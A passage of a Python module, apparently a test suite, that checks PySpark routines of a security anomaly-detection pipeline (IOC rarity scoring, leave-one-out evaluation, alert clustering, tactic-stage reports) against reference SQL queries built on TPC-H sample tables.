    ends = spark.createDataFrame([(0, "<graphml>"), (3, "</graphml>")], "place int, value string")
    lines = ends.unionByName(n.select(F.lit(1).alias("place"), node.alias("value"))).unionByName(n.select(F.lit(2).alias("place"), edge.alias("value")))
    lines.orderBy("place").coalesce(1).select("value").write.text(path)
    return path


@query("WITH d AS (SELECT 'n' || CAST(n_nationkey AS VARCHAR) AS id, row_number() OVER (ORDER BY 'n' || CAST(n_nationkey AS VARCHAR)) - 1 AS no FROM nation) SELECT a.no AS src, b.no AS dst FROM nation e JOIN d a ON a.id = 'n' || CAST(n_nationkey AS VARCHAR) JOIN d b ON b.id = 'n' || CAST(n_regionkey AS VARCHAR)")
def graphml_edges(spark, sf_dir):
    """Edges of a GraphML file with dense node numbers."""
    path = graphml_file(spark, sf_dir)
    return side.with_dense_ids(side.graphml(spark, path, "edge"), side.graphml(spark, path, "node")).select("src", "dst")


@query("SELECT 'n' || CAST(n_nationkey AS VARCHAR) AS id, n_name AS name, CAST(n_regionkey AS VARCHAR) AS region FROM nation")
def graphml_nodes(spark, sf_dir):
    return side.graphml(spark, graphml_file(spark, sf_dir), "node").select("id", F.element_at("data", "name").alias("name"), F.element_at("data", "region").alias("region"))


@query(f"WITH {I.SQL_CANON} SELECT scenario, count(*) AS n_stream, count(*) AS n_graph, 1 AS consistent FROM canon GROUP BY scenario")
def stream_of_graph(spark, sf_dir):
    """A stream regenerated from stored events, checked against the graph's counts."""
    from ..operators import reports

    top = scratch(spark)
    side.write_partitioned(I.canon(spark, sf_dir), f"{top}/events")
    stream = side.ensure_stream(spark, f"{top}/events", f"{top}/stream")
    side.ensure_stream(spark, f"{top}/events", f"{top}/stream")  # stored by now
    found = reports.stream_consistency(stream, G.graph_counts(spark.read.parquet(f"{top}/events")))
    return found.withColumn("consistent", F.col("consistent").cast("int"))


@query(f"""{NODES}, kinds AS (SELECT scenario, src_type || '>' || edge_type || '>' || dst_type AS type, count(*) AS n FROM canon GROUP BY ALL)
SELECT scenario, 'node' AS kind, node_type AS type, min(global_id) AS first, count(*) AS n FROM nodes GROUP BY ALL UNION ALL SELECT scenario, 'edge', type, row_number() OVER (PARTITION BY scenario ORDER BY type) - 1, n FROM kinds""")
def stream_decode_meta(spark, sf_dir):
    return side.decode_meta(I.canon(spark, sf_dir))


@query(f"""{NODES}, named AS (SELECT scenario, dst_type AS node_type, dst_key AS key, arg_max(port, event_seq) FILTER (port IS NOT NULL) AS port FROM (SELECT *, CASE WHEN event_seq % 4 > 0 THEN event_seq % 6 END AS port FROM canon) GROUP BY ALL)
SELECT n.scenario, n.node_type, n.key, n.global_id, a.port FROM nodes n LEFT JOIN named a ON a.scenario = n.scenario AND a.node_type = n.node_type AND a.key = n.key""")
def stored_node_attributes(spark, sf_dir):
    """Nodes of a stored graph with the latest attribute that an event gave them."""
    e = I.canon(spark, sf_dir).withColumn("port", F.when(F.col("event_seq") % 4 > 0, F.col("event_seq") % 6))
    path = scratch(spark)
    side.write_graph(e, path, ["port"])
    nodes, _, _ = side.read_graph(spark, path)
    return nodes.select("scenario", "node_type", "key", "global_id", "port")


@query(f"""{NODES}, sensitive AS (SELECT scenario, dst_type AS node_type, dst_key AS key, arg_max(event_seq % 6, event_seq) AS v FROM canon GROUP BY ALL)
SELECT n.scenario, n.global_id AS node, {" || '|' || ".join(f"CAST(CAST(n.node_type = '{t}' AS INT) AS VARCHAR)" for t in K.NODE_TYPES)} || '|0|0|0|' || CAST(coalesce(v, 0) AS VARCHAR) || '|0|0' AS x FROM nodes n LEFT JOIN sensitive a ON a.scenario = n.scenario AND a.node_type = n.node_type AND a.key = n.key""")
def node_vectors(spark, sf_dir):
    """One-hot node type and attribute numbers, as the static graph takes them."""
    e = I.canon(spark, sf_dir).withColumn("port_sensitivity", F.col("event_seq") % 6)
    x = G.node_features(G.nodes(e, ["port_sensitivity"]))
    return x.select("scenario", "node", F.array_join(F.transform("x", lambda v: v.cast("bigint").cast("string")), "|").alias("x"))


HOLDOUT = f"""{RARITY}, {AREAS.format('rare', 'PARTITION BY scenario', 'scenario,').replace('))' + chr(10) + 'SELECT', ')), areas AS (SELECT', 1)} GROUP BY scenario),
best AS (SELECT scenario, is_ioc, row_number() OVER (PARTITION BY scenario ORDER BY score DESC, row_seq) AS rn FROM rare), p AS (SELECT scenario, round(avg(CASE WHEN rn <= 10 THEN CAST(is_ioc AS DOUBLE) END), 6) AS p_at_10, round(avg(CASE WHEN rn <= 100 THEN CAST(is_ioc AS DOUBLE) END), 6) AS p_at_100 FROM best GROUP BY scenario),
folds AS (SELECT scenario AS holdout, positives, negatives, roc_auc, pr_auc, p_at_10, p_at_100 FROM areas JOIN p USING (scenario))"""


def rounded(df: DataFrame) -> DataFrame:
    return df.select(*[F.round(c, 6).alias(c) if c in T.METRICS else F.col(c) for c in df.columns])


@query(f"{HOLDOUT} SELECT * FROM folds")
def leave_one_out_folds(spark, sf_dir):
    return rounded(T.leave_one_out(I.scores(spark, sf_dir).drop("score"), "freq_rarity"))


@query(f"{HOLDOUT} SELECT count(*) AS n_folds, {', '.join(f'round(avg({m}), 4) AS {m}' for m in T.METRICS)} FROM folds")
def leave_one_out_means(spark, sf_dir):
    found = T.fold_means(rounded(T.leave_one_out(I.scores(spark, sf_dir).drop("score"), "freq_rarity")))
    return found.select("n_folds", *[F.round(m, 4).alias(m) for m in T.METRICS])


@query()
def leave_one_out_learned(spark, sf_dir):
    """All folds of the learned scores: as many fits as scenarios."""
    return rounded(T.leave_one_out(I.scores(spark, sf_dir)))


@query(f"{SPLIT}, counts AS (SELECT scenario, etype, src, dst, count(*) AS c FROM prefix GROUP BY ALL), s AS (SELECT scenario, greatest(max(src), max(dst)) + 1 AS n FROM scores GROUP BY scenario), b AS (SELECT scenario, coalesce(sum(n) OVER (ORDER BY scenario ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS base FROM s) SELECT t.scenario, t.row_seq, CAST(t.src + base AS BIGINT) AS src, CAST(t.dst + base AS BIGINT) AS dst, round(-ln((coalesce(c, 0) + 1) / CAST(greatest(cut, 1) + 1 AS DOUBLE)), 6) AS score FROM tail t JOIN b USING (scenario) LEFT JOIN counts c ON c.scenario = t.scenario AND c.etype = t.etype AND c.src = t.src AND c.dst = t.dst")
def joint_scores(spark, sf_dir):
    """All scenarios as one graph whose node ids don't meet."""
    return T.joint(I.scores(spark, sf_dir).drop("score"), R.rarity).select("scenario", "row_seq", F.col("src").cast("bigint").alias("src"), F.col("dst").cast("bigint").alias("dst"), F.round("score", 6).alias("score"))


def family_sql(family: str, where: str) -> str:
    """Rarity over one family's rows alone, as a query of its own."""
    inner = RARITY.replace("count(*) OVER (PARTITION BY scenario) AS n FROM scores", f"count(*) OVER (PARTITION BY scenario) AS n FROM scores WHERE {where}")
    return f"SELECT '{family}' AS family, * FROM ({inner}, {AREAS.format('rare', '', '')})"


@query(" UNION ALL ".join(family_sql(f, w) for f, w in (("full", "TRUE"), ("audit", "source_file = 'azure_events.csv'"), ("zeek", "source_file = 'zeek_conn.csv'"), ("eve", "source_file = 'eve.json'"))))
def ablation_by_family(spark, sf_dir):
    return rounded(T.ablation(I.scores(spark, sf_dir).drop("score")))


@query(f"""{BASE}, benign AS (SELECT scenario, score, row_number() OVER (PARTITION BY scenario ORDER BY row_seq) - 1 AS i FROM scores WHERE is_ioc = 0), sizes AS (SELECT scenario, count(*) AS size FROM benign GROUP BY scenario)
SELECT s.scenario, count(*) AS n, round(avg(greatest(CAST(0 AS DOUBLE), 5 - (s.score - b.score))), 6) AS loss FROM scores s JOIN sizes z USING (scenario) JOIN benign b ON b.scenario = s.scenario AND b.i = {drawn('42', 's.row_seq')} % z.size WHERE s.is_ioc = 1 GROUP BY s.scenario""")
def rank_margin_loss(spark, sf_dir):
    return T.rank_margin(I.scores(spark, sf_dir), 5.0).withColumn("loss", F.round("loss", 6))


@query()
def rank_supervised_scores(spark, sf_dir):
    return T.rank_scores(I.scores(spark, sf_dir)).select("scenario", "row_seq", "score")


@query()
def benign_link_scores(spark, sf_dir):
    """Link scores learnt from benign training edges only."""
    from ..operators import learned

    return learned.link_scores(I.scores(spark, sf_dir), benign=True).select("scenario", "row_seq", "score")


@query("SELECT r_name AS name, CAST(r_regionkey AS BIGINT) AS n, CAST(1.5 AS DOUBLE) AS latency_ms_per_1k FROM region")
def latency_patch(spark, sf_dir):
    """A stored JSON result, and the same with its latency filled in."""
    path = scratch(spark)
    side.write_json(spark.read.parquet(f"{sf_dir}/region.parquet").select(F.col("r_name").alias("name"), F.col("r_regionkey").alias("n"), F.lit(None).cast("double").alias("latency_ms_per_1k")), f"{path}/before")
    side.patch_latency(spark, f"{path}/before", 1.5, f"{path}/after")
    return spark.read.json(f"{path}/after").select("name", "n", "latency_ms_per_1k")


@query(f"{BASE}, a AS (SELECT scenario, source_file, avg(score) AS m FROM scores GROUP BY ALL), w AS (PIVOT a ON source_file IN ('azure_events.csv', 'eve.json', 'zeek_conn.csv') USING first(m) GROUP BY scenario) SELECT scenario, round(\"azure_events.csv\", 6) AS azure, round(\"eve.json\", 6) AS eve, round(\"zeek_conn.csv\", 6) AS zeek FROM w")
def wide_summary(spark, sf_dir):
    """A nested summary as one wide row for each scenario."""
    from ..operators import reports

    a = I.scores(spark, sf_dir).groupBy("scenario").agg(F.struct(*[F.round(F.avg(F.when(F.col("source_file") == f, F.col("score"))), 6).alias(n) for n, f in (("azure", "azure_events.csv"), ("eve", "eve.json"), ("zeek", "zeek_conn.csv"))]).alias("by"))
    return reports.flattened(a, "by").withColumnsRenamed({f"by_{n}": n for n in ("azure", "eve", "zeek")})


@query(f"{BASE}, b AS (SELECT scenario, avg(score) AS x FROM scores WHERE etype < 2 GROUP BY scenario), a AS (SELECT scenario, avg(score) AS x FROM scores WHERE etype > 1 AND scenario <> 'sc1' GROUP BY scenario) SELECT coalesce(b.scenario, a.scenario) AS scenario, round(b.x, 6) AS x_before, round(a.x, 6) AS x_after, round(a.x - b.x, 6) AS x_delta FROM b FULL JOIN a ON a.scenario = b.scenario")
def runs_compared(spark, sf_dir):
    from ..operators import reports

    s = I.scores(spark, sf_dir)
    of = lambda rows: rows.groupBy("scenario").agg(F.avg("score").alias("x"))
    found = reports.compared_runs(of(s.where("etype < 2")), of(s.where("etype > 1 AND scenario <> 'sc1'")), ["x"])
    return found.select("scenario", *[F.round(c, 6).alias(c) for c in ("x_before", "x_after", "x_delta")])


ONE = f"{BASE}, one AS (SELECT * FROM scores WHERE scenario = 'sc3'), best AS (SELECT l.*, row_number() OVER (ORDER BY d.score DESC, d.row_seq) AS rank FROM (SELECT scenario, t, etype, src, dst, max(score) AS score, min(row_seq) AS row_seq FROM one GROUP BY ALL) d JOIN (SELECT * FROM one QUALIFY row_number() OVER (PARTITION BY scenario, t, etype, src, dst ORDER BY row_seq DESC) = 1) l USING (scenario, t, etype, src, dst))"


@query(f"{ONE} SELECT stage, count(*) AS n FROM (SELECT {STAGE} AS stage FROM best WHERE rank <= 200 AND is_ioc = 1) WHERE stage <> '' GROUP BY stage")
def stage_votes_of_scenario(spark, sf_dir):
    one = C.only_scenario(I.scores(spark, sf_dir), "sc3")
    return C.votes(C.with_stage(R.top_k(one, 200).where("is_ioc = 1")))


@query(f"""{BASE.replace("WITH ", "WITH RECURSIVE ", 1)}, {DEDUPED.format("scores")}, {HIGH.format("0.99")}, {WINDOWS}, {REACH},
clustered AS (SELECT p.*, l.component, count(*) OVER (PARTITION BY p.scenario, p.window_no, l.component) AS size FROM placed p JOIN labels l ON l.scenario = p.scenario AND l.window_no = p.window_no AND l.node = p.src), big AS (SELECT * FROM clustered WHERE size >= 3),
firsts AS (SELECT scenario, window_no, component, row_number() OVER (ORDER BY scenario, window_no, ft, fs, fr) AS alert_id FROM (SELECT scenario, window_no, component, arg_min(t, (t, -score, row_seq)) AS ft, arg_min(-score, (t, -score, row_seq)) AS fs, arg_min(row_seq, (t, -score, row_seq)) AS fr FROM big GROUP BY ALL)),
shown AS (SELECT f.alert_id, {STAGE} AS stage FROM big b JOIN firsts f USING (scenario, window_no, component) JOIN (SELECT * FROM scores QUALIFY row_number() OVER (PARTITION BY scenario, t, etype, src, dst ORDER BY row_seq DESC) = 1) l ON l.scenario = b.scenario AND l.t = b.t AND l.etype = b.etype AND l.src = b.src AND l.dst = b.dst WHERE f.alert_id <= 50),
counted AS (SELECT alert_id, stage, count(*) AS n FROM shown GROUP BY ALL) SELECT alert_id, CAST(sum(n) AS BIGINT) AS n_edges, coalesce(string_agg(stage || ':' || n, ',' ORDER BY stage) FILTER (stage <> ''), '') AS stages FROM counted GROUP BY alert_id""")
def alert_stages(spark, sf_dir):
    """Stages of the first 50 alerts, each with its number of edges."""
    found = C.alert_stages(I.scores(spark, sf_dir), width=DAY)
    return found.select("alert_id", "n_edges", F.array_join(F.zip_with("stages", "stage_edges", lambda a, b: F.concat_ws(":", a, b)), ",").alias("stages"))


LAYERED = "SELECT 'sc' || CAST(n_regionkey + 1 AS VARCHAR) AS scenario, 'T' || CAST(n_nationkey AS VARCHAR) AS technique, CASE n_nationkey % 4 WHEN 0 THEN 'execution' WHEN 1 THEN 'impact' WHEN 2 THEN 'discovery' ELSE 'nothing' END AS tactic, 'layer' || CAST(n_nationkey % 2 AS VARCHAR) || '.json' AS layer_file FROM nation"
LAYER_STAGE = "CASE tactic " + " ".join(f"WHEN '{t}' THEN '{K.TACTIC_STAGE[t]}'" for t in ("execution", "impact", "discovery")) + " END"


@query(f"""{BASE}, layers AS ({LAYERED}), l AS (SELECT scenario, coalesce(string_agg(DISTINCT {LAYER_STAGE}, ',' ORDER BY {LAYER_STAGE}), '') AS semantic, string_agg(DISTINCT technique, ',' ORDER BY technique) AS techniques, string_agg(DISTINCT layer_file, ',' ORDER BY layer_file) AS layer_files FROM layers GROUP BY scenario),
c AS (SELECT scenario, {STAGE} AS stage, count(*) AS n FROM scores WHERE is_ioc = 1 GROUP BY ALL), o AS (SELECT scenario, string_agg(stage || ':' || n, ',' ORDER BY stage) AS counts FROM c WHERE stage <> '' GROUP BY scenario)
SELECT coalesce(l.scenario, o.scenario) AS scenario, coalesce(semantic, '') AS semantic, coalesce(techniques, '') AS techniques, coalesce(layer_files, '') AS layer_files, coalesce(counts, '') AS counts FROM l FULL JOIN o ON o.scenario = l.scenario""")
def stage_truth_files(spark, sf_dir):
    """Stage truth stored as JSON by scenario and read again."""
    spark.read.parquet(f"{sf_dir}/nation.parquet").createOrReplaceTempView("nation")
    layers = spark.sql(LAYERED.replace("AS VARCHAR", "AS STRING"))
    path = scratch(spark)
    side.write_stage_truth(C.stage_truth_report(layers, I.scores(spark, sf_dir).where("is_ioc = 1")), path)
    kind = "scenario string, semantic struct<stages:array<string>,techniques:array<string>,layer_files:array<string>>, observable struct<stages:array<string>,ioc_counts_by_stage:map<string,bigint>>"
    found = spark.read.schema(kind).json(f"{path}/scenarios")
    counts = F.array_join(F.transform("observable.stages", lambda x: F.concat_ws(":", x, F.element_at("observable.ioc_counts_by_stage", x))), ",")
    return found.select("scenario", F.array_join("semantic.stages", ",").alias("semantic"), F.array_join("semantic.techniques", ",").alias("techniques"), F.array_join("semantic.layer_files", ",").alias("layer_files"), counts.alias("counts"))


BALANCES = " UNION ALL ".join(f"SELECT '{c}' AS label, scenario, coalesce(part, 'full') AS part, count(*) AS n, CAST(sum(CAST({c} > 0 AS INT)) AS BIGINT) AS pos, round(sum(CAST({c} > 0 AS INT)) / CAST(count(*) AS DOUBLE), 6) AS rate FROM x GROUP BY GROUPING SETS ((scenario), (scenario, part))" for c in ("y_ioc", "y_rule", "y_rule_high"))


@query(f"{SPLIT}, x AS (SELECT *, CASE WHEN pos >= cut THEN 'tail' ELSE 'prefix' END AS part FROM parts) {BALANCES}")
def balance_report(spark, sf_dir):
    return D.balance_report(I.scores(spark, sf_dir)).withColumn("rate", F.round("rate", 6))


@query(f"{BASE} SELECT scenario, 'rule' AS mode, count(*) FILTER (y_rule = 1 AND rule_ioc_type NOT IN ({NETWORK})) AS n_eligible FROM scores GROUP BY scenario UNION ALL SELECT scenario, 'rule_high', count(*) FILTER (y_rule_high = 1 AND rule_ioc_type NOT IN ({NETWORK})) FROM scores GROUP BY scenario")
def supervision_diagnosis(spark, sf_dir):
    return D.supervision_diagnosis(I.scores(spark, sf_dir))


@query(f"{HOLDOUT} SELECT holdout, positives, roc_auc FROM folds")
def summary_csv(spark, sf_dir):
    """A summary as one CSV file, read again."""
    path = f"{scratch(spark)}/summary"
    side.write_summary(rounded(T.leave_one_out(I.scores(spark, sf_dir).drop("score"), "freq_rarity")), path)
    return spark.read.option("header", "true").csv(path).select("holdout", F.col("positives").cast("bigint").alias("positives"), F.col("roc_auc").cast("double").alias("roc_auc"))


@query(f"{HOLDOUT}, m AS (SELECT count(*) AS n_folds, round(avg(roc_auc), 4) AS roc_auc FROM folds) SELECT 'run_sc3' AS run, 'sc3' AS scenario, CAST(n_folds AS BIGINT) AS n_folds, roc_auc FROM m")
def run_summary_round_trip(spark, sf_dir):
    """A run's summary written and read again with types."""
    from ..operators import reports

    top = scratch(spark)
    means = T.fold_means(rounded(T.leave_one_out(I.scores(spark, sf_dir).drop("score"), "freq_rarity")))
    side.write_run(means, f"{top}/run_sc3", {"method": "freq_rarity"})
    found = reports.summaries(spark, top, {"n_folds": ("$.best.n_folds", "bigint"), "roc_auc": ("$.best.roc_auc", "double")})
    return found.select("run", "scenario", "n_folds", F.round("roc_auc", 4).alias("roc_auc"))


@query("SELECT alert_id, n FROM (" + f"""{BASE.replace("WITH ", "WITH RECURSIVE ", 1)}, {DEDUPED.format("scores")}, {HIGH.format("0.99")}, {WINDOWS}, {REACH},
clustered AS (SELECT p.*, l.component, count(*) OVER (PARTITION BY p.scenario, p.window_no, l.component) AS size FROM placed p JOIN labels l ON l.scenario = p.scenario AND l.window_no = p.window_no AND l.node = p.src), big AS (SELECT * FROM clustered WHERE size >= 3)
SELECT row_number() OVER (ORDER BY scenario, window_no, min((t, -score, row_seq))) AS alert_id, count(*) AS n FROM big GROUP BY scenario, window_no, component)""")
def alert_files(spark, sf_dir):
    """Alerts written as JSON lines and as a summary, both read again."""
    from ..operators import alerts

    path = scratch(spark)
    found = alerts.alerts(I.scores(spark, sf_dir), DAY)
    side.write_alerts(found, path)
    # schemas are given, as there may be no alert
    told = spark.read.schema(found.schema).json(f"{path}/alerts_json").select("alert_id", F.size("evidence").alias("shown"))
    summary = spark.read.schema(found.drop("nodes", "evidence").schema).option("header", "true").csv(f"{path}/alerts_csv").select(F.col("alert_id").cast("bigint").alias("alert_id"), F.col("num_events").cast("bigint").alias("n"))
    return summary.join(told, "alert_id").where(F.col("shown") == F.least("n", F.lit(200))).select("alert_id", "n")
